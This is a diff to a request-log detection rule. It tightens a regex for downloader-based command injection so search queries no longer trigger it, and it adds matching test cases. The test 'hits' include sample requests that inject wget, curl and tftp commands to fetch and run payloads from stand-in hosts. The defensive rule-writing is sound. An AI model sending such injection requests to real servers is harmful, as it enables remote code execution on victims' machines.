@@ -42,9 +42,11 @@ export default defineRule({
     ],
   ],
   match:
-    /(?:^|[\s&(/;=?`|"'{]|\\n)(?:wget|curl|lwp-download|lynx|fetch|aria2c|certutil|bitsadmin)(?:\.exe)?[\s+,](?![^\n;|]{0,20}\+https?:)[^\n;|]{0,120}?(?:(?:https?|ftp):\/|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[\w-]{1,40}\.[\w.-]{1,60}\/)|(?:^|[\s&;=`|])(?:tftp|ftpget)\s[^\n;|]{0,60}(?:\d{1,3}\.){3}\d{1,3}/i,
+    /(?:^|[\s&(/;=?`|"'{]|\\n)(?<!(?:^|[&?])(?:q|query|s|search|term|keywords?|text)=)(?:wget|curl|lwp-download|lynx|fetch|aria2c|certutil|bitsadmin)(?:\.exe)?[\s+,](?![^\n;|]{0,20}\+https?:)[^\n;|]{0,120}?(?:(?:https?|ftp):\/|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[\w-]{1,40}\.[\w.-]{1,60}\/)|(?:^|[\s&;=`|])(?:tftp|ftpget)\s[^\n;|]{0,60}(?:\d{1,3}\.){3}\d{1,3}/i,
 
   hits: [
+    'GET /search?q=;wget+http://evil.example/a HTTP/1.1',
+    'GET /a.php?myq=wget+http://evil.example/a HTTP/1.1',
     'GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh HTTP/1.1',
     'GET /shell?cd+/tmp;curl+-O+http://malware.example/bins/x86;sh+x86 HTTP/1.1',
     'GET /set.cgi?ntp=`tftp%20-g%20-r%20mips%20203.0.113.9` HTTP/1.1',
@@ -74,6 +76,8 @@ export default defineRule({
     'GET /cgi-bin/test.cgi?x=;curl.exe%20http://203.0.113.9/a.sh HTTP/1.1',
   ],
   misses: [
+    'GET /search?q=wget+https://www.example.com/file.zip HTTP/1.1',
+    'GET /?a=b&query=curl+-X+POST+http://www.example.com/a HTTP/1.1',
     { request: 'GET / HTTP/1.1', agent: 'curl/7.88.1' },
     { request: 'GET /feed HTTP/1.1', agent: 'Wget/1.21.3 (linux-gnu)' },
     { request: 'GET /feed HTTP/1.1', agent: 'link fetch (+http://bot.example/about)' },
